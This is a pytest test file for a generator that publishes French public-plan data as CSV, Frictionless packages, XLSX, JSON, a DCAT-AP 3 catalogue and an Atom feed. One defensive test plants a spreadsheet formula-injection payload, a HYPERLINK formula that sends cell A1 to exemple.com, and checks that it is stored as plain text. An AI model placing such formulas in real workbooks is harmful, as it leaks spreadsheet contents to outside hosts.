"""Open data that a portal harvests as is: DCAT-AP 3 (SHACL), Frictionless Data Packages,
RFC 4180 CSV read by pandas and frictionless with no option, typed XLSX workbooks, JSON
validated against its published schema, a feed whose entry ids never change.

The suivi fixture's files are written once per module into a folder, as a site would serve them.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from generator.content.loading import load_site
from generator.opendata.downloads import render_downloads
from tests.conftest import FIXTURES

URL = "https://exemple.org/plans/"
# The official DCAT-AP 3.0.1 shapes (SEMICeu/DCAT-AP, releases/3.0.1/shacl/dcat-ap-SHACL.ttl), vendored here.
SHAPES = Path(os.environ.get("PLANS_PUBLICS_DCAT_AP", Path(__file__).parent / "data" / "dcat-ap" / "dcat-ap-SHACL.ttl"))
ATOM = {"a": "http://www.w3.org/2005/Atom"}


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, str | bytes], Path]:
    files = render_downloads(load_site(FIXTURES / "suivi"), URL)
    folder = tmp_path_factory.mktemp("donnees")
    for path, content in files.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return files, folder


def _csv_paths(files: dict[str, str | bytes]) -> list[str]:
    return [p for p in files if p.endswith(".csv")]


# --- CSV -----------------------------------------------------------------------------------


def test_csv_is_rfc_4180_utf8_comma_point(published: tuple) -> None:
    files, _ = published
    for path in _csv_paths(files):
        text = files[path]
        assert isinstance(text, str) and not text.startswith("\ufeff"), path
        assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", ""), path
        header = next(csv.reader(io.StringIO(text)))
        assert all(name.isidentifier() for name in header), (path, header)
    rows = list(csv.DictReader(io.StringIO(files["donnees/contributions.csv"])))
    assert [(r["montant"], r["part_du_total"]) for r in rows] == [("1000000", "99.9"), ("1000", "0.1")]


def test_pandas_reads_every_csv_with_the_right_types(published: tuple) -> None:
    pandas = pytest.importorskip("pandas")
    files, folder = published
    for path in _csv_paths(files):
        frame = pandas.read_csv(folder / path)
        assert list(frame.columns) == next(csv.reader(io.StringIO(files[path]))), path
    actions = pandas.read_csv(folder / "donnees/actions.csv")
    for column in ("enjeu", "volet", "action"):
        assert str(actions[column].dtype) == "int64", column
    for column in ("temps_imparti", "avancement"):
        assert pandas.api.types.is_float_dtype(actions[column]), column
    assert actions["temps_imparti"].tolist()[:3] == [15.0, 15.0, 15.0]
    assert actions["temps_imparti_note"].dropna().tolist() == ["Temps non imparti aux ressources."] * 2
    # One precision per date column: every value parses with one format.
    pandas.to_datetime(actions["echeance_mois"], format="%Y-%m")
    pandas.to_datetime(actions["echeance_jour"].dropna(), format="%Y-%m-%d")
    assert actions["echeance_mois"].tolist() == ["2025-03", "2025-03", "2024-03", "2024-03", "2024-03"]
    contributions = pandas.read_csv(folder / "donnees/contributions.csv")
    assert contributions["montant"].sum() == 1001000 and contributions["part_du_total"].tolist() == [99.9, 0.1]
    indicators = pandas.read_csv(folder / "donnees/indicateurs.csv")
    assert indicators.loc[0, ["cible", "resultat", "date_resultat"]].tolist() == ["50 %", "30 %", "2024-09-15"]


def test_indicator_targets_results_and_dates_are_in_the_csv(published: tuple) -> None:
    files, _ = published
    rows = list(csv.DictReader(io.StringIO(files["documents/mrc-de-test-piar/mrc-de-test-piar-indicateurs.csv"])))
    assert rows == [{
        "document": "mrc-de-test-piar", "organisation": "MRC de Test", "enjeu": "1", "volet": "1", "indicateur": "1",
        "indicateur_texte": "50 % des entreprises visitées.", "cible": "50 %", "resultat": "30 %", "date_resultat": "2024-09-15",
    }]


# --- Frictionless ----------------------------------------------------------------------------


def test_frictionless_validates_every_package(published: tuple) -> None:
    frictionless = pytest.importorskip("frictionless")
    files, folder = published
    packages = [p for p in files if p.endswith("datapackage.json")]
    assert packages == ["documents/mrc-de-test-piar/datapackage.json", "documents/nordique-entente/datapackage.json",
                        "donnees/datapackage.json"]
    for path in packages:
        report = frictionless.validate(str(folder / path))
        assert report.valid, (path, report.flatten(["type", "note"]))


def test_frictionless_reads_every_csv_with_the_right_types(published: tuple) -> None:
    frictionless = pytest.importorskip("frictionless")
    _, folder = published
    package = frictionless.Package(str(folder / "donnees/datapackage.json"))
    actions = package.get_resource("actions").read_rows()
    assert actions[1]["avancement"] == 60 and actions[1]["date_statut"] == dt.date(2024, 9, 15)
    contributions = package.get_resource("contributions").read_rows()
    assert contributions[0]["montant"] == 1000000 and contributions[0]["periode_debut"] == 2023
    for path in sorted((folder / "donnees").glob("*.csv")):  # frictionless' own inference agrees: no mixed columns
        with frictionless.Resource(str(path)) as resource:
            resource.read_rows()


def test_package_keys_and_dictionary_in_french(published: tuple) -> None:
    files, _ = published
    package = json.loads(files["donnees/datapackage.json"])
    resources = {r["name"]: r for r in package["resources"]}
    assert set(resources) == {"documents", "actions", "indicateurs", "contributions"}
    assert resources["actions"]["schema"]["primaryKey"] == ["document", "enjeu", "volet", "action"]
    assert resources["actions"]["schema"]["foreignKeys"] == [
        {"fields": ["document"], "reference": {"resource": "documents", "fields": ["document"]}}]
    montant = next(f for f in resources["contributions"]["schema"]["fields"] if f["name"] == "montant")
    assert montant["type"] == "number" and "dollars canadiens" in montant["description"] and montant["unit"] == "CAD"
    assert package["licenses"] == [{"name": "CC-BY-4.0", "path": "https://creativecommons.org/licenses/by/4.0/",
                                    "title": "Creative Commons Attribution 4.0 International (CC BY 4.0)"}]


# --- XLSX ------------------------------------------------------------------------------------


def test_workbooks_have_typed_cells_french_headers_and_the_dictionary(published: tuple) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    _, folder = published
    book = openpyxl.load_workbook(folder / "donnees/contributions.xlsx")
    assert book.sheetnames == ["Contributions", "Dictionnaire"]
    sheet = book["Contributions"]
    assert sheet.freeze_panes == "A2"
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["Document", "Organisation", "Début de la période"] and "Montant ($)" in headers
    montant = sheet.cell(2, headers.index("Montant ($)") + 1)
    assert montant.value == 1000000 and montant.data_type == "n" and montant.number_format == '#,##0\\ "$"'
    share = sheet.cell(2, headers.index("Part de l'enveloppe (%)") + 1)
    assert share.value == pytest.approx(0.999) and share.number_format == "0.0\\ %"
    update = sheet.cell(2, headers.index("Mise à jour") + 1)
    assert update.value == dt.datetime(2024, 1, 15) and update.is_date
    dictionary = [[c.value for c in row] for row in book["Dictionnaire"].iter_rows(min_row=2, max_col=6)]
    assert ["Contributions", "montant", "Montant ($)", "nombre", "dollars",
            "Montant de la contribution, en dollars canadiens."] in dictionary
    plan = openpyxl.load_workbook(folder / "donnees/actions.xlsx")  # one workbook per table of the site
    assert plan.sheetnames == ["Actions", "Dictionnaire"] and plan["Actions"].auto_filter.ref
    deadline = plan["Actions"].cell(2, [c.value for c in plan["Actions"][1]].index("Échéance (mois)") + 1)
    assert deadline.value == dt.datetime(2025, 3, 1) and deadline.number_format == "yyyy-mm"


def test_workbook_text_is_never_a_formula(mini: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    piar = mini / "documents" / "mrc-de-test-piar.yml"
    formula = '=HYPERLINK("https://exemple.com/?"&A1,"Cliquez")'
    piar.write_text(piar.read_text(encoding="utf-8").replace("titre: Deuxième enjeu", "titre: '" + formula + "'"), encoding="utf-8")
    files = render_downloads(load_site(mini), URL)
    book = openpyxl.load_workbook(io.BytesIO(files["donnees/actions.xlsx"]))
    cells = [c for row in book["Actions"].iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)


def test_same_content_same_bytes_workbooks_included() -> None:
    first = render_downloads(load_site(FIXTURES / "suivi"), URL)
    second = render_downloads(load_site(FIXTURES / "suivi"), URL)
    assert first == second


# --- JSON ------------------------------------------------------------------------------------


def test_every_json_validates_against_its_published_schema(published: tuple) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    from referencing import Registry, Resource

    files, _ = published
    document_schema = json.loads(files["donnees/document.schema.json"])
    site_schema = json.loads(files["donnees/plans-publics.schema.json"])
    registry = Registry().with_resources([(s["$id"], Resource.from_contents(s)) for s in (document_schema, site_schema)])
    for path in [p for p in files if p.startswith("documents/") and p.endswith(".json") and "datapackage" not in p]:
        data = json.loads(files[path])
        assert data["$schema"] == document_schema["$id"]
        jsonschema.Draft202012Validator(document_schema, registry=registry).validate(data)
    whole = json.loads(files["donnees/plans-publics.json"])
    jsonschema.Draft202012Validator(site_schema, registry=registry).validate(whole)
    # The same licence and provenance in every JSON.
    blocks = {json.dumps([d["licence"], d["provenance"]]) for d in [whole, *whole["documents"]]}
    assert len(blocks) == 1 and whole["licence"]["adresse"] == "https://creativecommons.org/licenses/by/4.0/"


def test_json_schema_refuses_what_the_models_do_not_publish(published: tuple) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    files, _ = published
    schema = json.loads(files["donnees/document.schema.json"])
    data = json.loads(files["documents/mrc-de-test-piar/mrc-de-test-piar.json"])
    data["enjeux"][0]["inconnu"] = 1
    assert not jsonschema.Draft202012Validator(schema).is_valid(data)


# --- DCAT-AP 3 -------------------------------------------------------------------------------


def _catalogue_graph(files: dict[str, str | bytes]):  # type: ignore[no-untyped-def]
    rdflib = pytest.importorskip("rdflib")
    return rdflib.Graph().parse(data=files["donnees/catalogue.jsonld"], format="json-ld")


def test_dcat_ap_3_shapes_report_no_violation(published: tuple) -> None:
    pyshacl = pytest.importorskip("pyshacl")
    if not SHAPES.is_file():
        message = f"formes SHACL DCAT-AP 3.0.1 absentes : {SHAPES} (voir tests/data/dcat-ap/LISEZMOI.md)"
        if os.environ.get("CI") == "true":
            pytest.fail(message)
        pytest.skip(message)
    files, _ = published
    conforms, _, text = pyshacl.validate(_catalogue_graph(files), shacl_graph=str(SHAPES), shacl_graph_format="turtle",
                                         inference="none", allow_warnings=True)
    assert conforms, text


def test_every_download_is_a_distribution_with_size_and_checksum(published: tuple) -> None:
    import hashlib

    rdflib = pytest.importorskip("rdflib")
    files, _ = published
    graph = _catalogue_graph(files)
    DCAT = rdflib.Namespace("http://www.w3.org/ns/dcat#")
    SPDX = rdflib.Namespace("http://spdx.org/rdf/terms#")
    DCT = rdflib.Namespace("http://purl.org/dc/terms/")
    listed = {}
    for node in graph.subjects(rdflib.RDF.type, DCAT.Distribution):
        assert isinstance(node, rdflib.URIRef)
        url = str(graph.value(node, DCAT.downloadURL))
        assert graph.value(node, DCAT.accessURL) == graph.value(node, DCAT.downloadURL)
        assert str(graph.value(node, DCAT.mediaType)).startswith("https://www.iana.org/assignments/media-types/")
        assert str(graph.value(node, DCT["format"])).startswith("http://publications.europa.eu/resource/authority/file-type/")
        listed[url[len(URL):]] = (int(graph.value(node, DCAT.byteSize)),
                                 str(graph.value(graph.value(node, SPDX.checksum), SPDX.checksumValue)))
    data = {p for p in files if p.endswith((".csv", ".xlsx", ".json")) and ".schema." not in p}
    assert set(listed) == data
    for path, (size, checksum) in listed.items():
        content = files[path] if isinstance(files[path], bytes) else files[path].encode("utf-8")
        assert (size, checksum) == (len(content), hashlib.sha256(content).hexdigest()), path
    licence = rdflib.URIRef("https://creativecommons.org/licenses/by/4.0/")
    assert (licence, rdflib.RDF.type, DCT.LicenseDocument) in graph
    assert str(graph.value(licence, DCT.identifier)) == "CC-BY-4.0"


def test_datasets_have_publisher_contact_place_period_theme_frequency(published: tuple) -> None:
    rdflib = pytest.importorskip("rdflib")
    files, _ = published
    graph = _catalogue_graph(files)
    DCAT = rdflib.Namespace("http://www.w3.org/ns/dcat#")
    DCT = rdflib.Namespace("http://purl.org/dc/terms/")
    FOAF = rdflib.Namespace("http://xmlns.com/foaf/0.1/")
    VCARD = rdflib.Namespace("http://www.w3.org/2006/vcard/ns#")
    entente = rdflib.URIRef(URL + "documents/nordique-entente/#donnees")
    publisher = graph.value(entente, DCT.publisher)
    assert str(publisher) == URL + "organisations/nordique/" and str(graph.value(publisher, FOAF.name)) == "Organisme Nordique"
    contact = graph.value(entente, DCAT.contactPoint)
    assert str(graph.value(contact, VCARD.fn)) == "Jeanne Essai"
    assert str(graph.value(contact, VCARD.hasEmail)) == "mailto:jeanne@example.org"
    assert str(graph.value(entente, DCT.spatial)) == URL + "regions/cote-nord/"
    period = graph.value(entente, DCT.temporal)
    assert (str(graph.value(period, DCAT.startDate)), str(graph.value(period, DCAT.endDate))) == ("2023", "2027")
    assert str(graph.value(entente, DCT.accrualPeriodicity)).endswith("/frequency/IRREG")
    assert {str(t) for t in graph.objects(entente, DCAT.theme)} == {
        "http://publications.europa.eu/resource/authority/data-theme/GOVE"}
    whole = rdflib.URIRef(URL + "donnees/#donnees")
    downloads = {str(graph.value(d, DCAT.downloadURL))[len(URL):] for d in graph.objects(whole, DCAT.distribution)}
    assert {"donnees/actions.csv", "donnees/contributions.csv", "donnees/plans-publics.json"} <= downloads


# --- Atom --------------------------------------------------------------------------------------


def _entries(feed: str) -> dict[str, ET.Element]:
    root = ET.fromstring(feed)
    return {e.findtext("a:id", namespaces=ATOM): e for e in root.findall("a:entry", ATOM)}


def test_feed_ids_survive_the_archiving_of_a_version(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURES / "suivi", content)
    before = _entries(render_downloads(load_site(content), URL)["flux.xml"])
    assert "tag:exemple.org,2024-10-02:/plans/documents/mrc-de-test-piar" in before
    current = content / "documents" / "mrc-de-test-piar.yml"
    shutil.copy(current, content / "versions" / "mrc-de-test-piar" / "2024-10-02.yml")
    current.write_text(current.read_text(encoding="utf-8").replace("mise_a_jour: 2024-10-02", "mise_a_jour: 2025-01-15"),
                       encoding="utf-8")
    after = _entries(render_downloads(load_site(content), URL)["flux.xml"])
    assert set(before) < set(after)
    assert "tag:exemple.org,2025-01-15:/plans/documents/mrc-de-test-piar" in after


def test_feed_entries_link_to_the_data_files(published: tuple) -> None:
    files, _ = published
    for entry in _entries(files["flux.xml"]).values():
        related = {link.get("type"): link.get("href") for link in entry.findall("a:link", ATOM) if link.get("rel") == "related"}
        assert set(related) == {"text/csv", "application/json"}
        assert all(href[len(URL):] in files for href in related.values())


def test_every_document_is_in_the_feed_beyond_its_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from generator.opendata import atom

    monkeypatch.setattr(atom, "FEED_LIMIT", 1)
    site = load_site(FIXTURES / "suivi")
    entries = _entries(atom.feed(site, URL))
    assert {i.rsplit("/", 1)[1] for i in entries} == set(site.documents)


def test_robots_txt_points_to_the_sitemap(published: tuple) -> None:
    files, _ = published
    assert files["robots.txt"] == f"User-agent: *\nAllow: /\nSitemap: {URL}sitemap.xml\n"
